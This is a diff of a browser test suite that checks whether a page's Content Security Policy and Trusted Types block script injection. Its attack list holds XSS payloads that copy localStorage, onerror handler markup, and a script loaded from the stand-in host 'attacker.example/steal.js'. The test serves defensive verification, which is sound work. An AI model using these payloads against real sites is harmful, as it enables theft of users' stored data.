@@ -10,7 +10,10 @@ async function listViolations(page: Page, attack: () => void): Promise<string[]>
     );
     (window as unknown as { violations: string[] }).violations = seen;
   });
-  await page.evaluate(attack);
+  // In a timer: code that the test evaluates is exempt from some directives. A refusal also throws.
+  await page.evaluate(
+    `new Promise((resolve) => setTimeout(() => { try { (${String(attack)})(); } catch {} resolve(); }))`,
+  );
   const read = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
   await expect.poll(async () => (await read()).length).toBeGreaterThan(0);
   return read();
@@ -20,7 +23,7 @@ async function listViolations(page: Page, attack: () => void): Promise<string[]>
 const attacks: readonly { what: string; directive: string; attack: () => void }[] = [
   {
     what: 'a script element with text of its own',
-    directive: 'script-src-elem',
+    directive: 'require-trusted-types-for',
     attack: () => {
       const script = document.createElement('script');
       script.textContent = 'window.stolen = { ...localStorage }';
@@ -28,15 +31,26 @@ const attacks: readonly { what: string; directive: string; attack: () => void }[
     },
   },
   {
-    what: 'an event handler in markup',
-    directive: 'script-src-attr',
+    what: 'text that becomes markup',
+    directive: 'require-trusted-types-for',
     attack: () => {
       document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.stolen = 1">');
     },
   },
   {
-    what: 'a script of another origin',
-    directive: 'script-src-elem',
+    what: 'an event handler in markup that was parsed elsewhere',
+    directive: 'script-src-attr',
+    attack: () => {
+      const parsed = new DOMParser().parseFromString(
+        '<img src="data:," onerror="window.stolen = 1">',
+        'text/html',
+      );
+      document.body.append(...parsed.body.children);
+    },
+  },
+  {
+    what: 'the address of a script of another origin',
+    directive: 'require-trusted-types-for',
     attack: () => {
       const script = document.createElement('script');
       script.src = 'https://attacker.example/steal.js';
@@ -44,17 +58,20 @@ const attacks: readonly { what: string; directive: string; attack: () => void }[
     },
   },
   {
-    what: 'text that is evaluated',
-    directive: 'script-src',
+    what: 'a policy of its own for trusted types',
+    directive: 'trusted-types',
     attack: () => {
-      // Code that the test evaluates is exempt, so the page runs it in a timer.
-      setTimeout(() => {
-        try {
-          (window as unknown as { stolen: unknown }).stolen = new Function('return { ...localStorage }')();
-        } catch {
-          // Refused; only the violation counts.
-        }
-      });
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): unknown };
+      };
+      trustedTypes.createPolicy('attacker', { createHTML: String });
+    },
+  },
+  {
+    what: 'text that is evaluated',
+    directive: 'require-trusted-types-for',
+    attack: () => {
+      (window as unknown as { stolen: unknown }).stolen = new Function('return { ...localStorage }')();
     },
   },
   {
@@ -91,7 +108,9 @@ test('the policy guards local storage: no foreign script runs, and nothing is se
   consoleErrors,
 }) => {
   // The browser reports each refusal to the console.
-  consoleErrors.allow(/Content Security Policy|Fetch API cannot load|Refused to/);
+  consoleErrors.allow(
+    /Content Security Policy|Content Security policy|Fetch API cannot load|Refused to|This document requires 'Trusted|Function constructor/,
+  );
   expect(supplier.userId).not.toBe('');
   const sent: string[] = [];
   page.on('request', (request) => {
